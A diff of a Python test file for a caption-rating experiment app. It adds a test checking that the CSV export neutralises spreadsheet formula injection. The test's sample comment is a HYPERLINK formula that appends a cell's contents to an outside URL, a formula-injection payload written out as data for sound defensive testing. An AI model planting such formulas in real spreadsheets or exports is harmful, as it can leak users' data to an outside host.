@@ -38,14 +38,14 @@ def caption_experiment() -> Experiment:
     return make_experiment(owner, collection=collection, protocol="thumbs", seats=2)
 
 
-def assess(experiment: Experiment, *, shift: float = 0.0) -> None:
+def assess(experiment: Experiment, *, shift: float = 0.0, comment: str = "Well said.") -> None:
     """One assessor scores every caption of every clip and takes all clips for synthesised."""
     for place, trial in enumerate(seated_visit(experiment).seat.ballot.trials.order_by("position")):
         captions = {}
         for slot in trial.slots.exclude(key="clip").select_related("stimulus__condition"):
             scores = dict(zip(SCALES, SOURCES[slot.stimulus.condition.name], strict=True))
             scores["RECALL"] += shift + place % 2 / 2
-            captions[slot.key] = {**scores, "comment": "Well said."}
+            captions[slot.key] = {**scores, "comment": comment}
         payload = {"captions": captions, "synthesised": True, "finished": True}
         assert cast_vote(ballot_id=trial.ballot_id, event=vote_event(trial, payload=payload)).status == "stored"
 
@@ -134,3 +134,11 @@ def test_a_total_below_nothing_is_drawn_left_of_a_line_at_nothing() -> None:
 
 def test_without_answers_the_page_says_so(client: Client) -> None:
     assert "No answers yet." in page(client, make_experiment(protocol="thumbs", conditions=1, seats=1))
+
+
+def test_a_comment_is_no_formula_and_a_penalty_stays_a_number(client: Client) -> None:
+    made = caption_experiment()
+    assess(made, comment='=HYPERLINK("http://example.org/"&A1)')
+    rows = list(csv.DictReader(io.StringIO(content(client, made, "thumbs_wide.csv"))))
+    assert {row["comment"] for row in rows} == {'\'=HYPERLINK("http://example.org/"&A1)'}
+    assert {row["irrelevance"] for row in rows} == {"-0.5", "-1.0"}
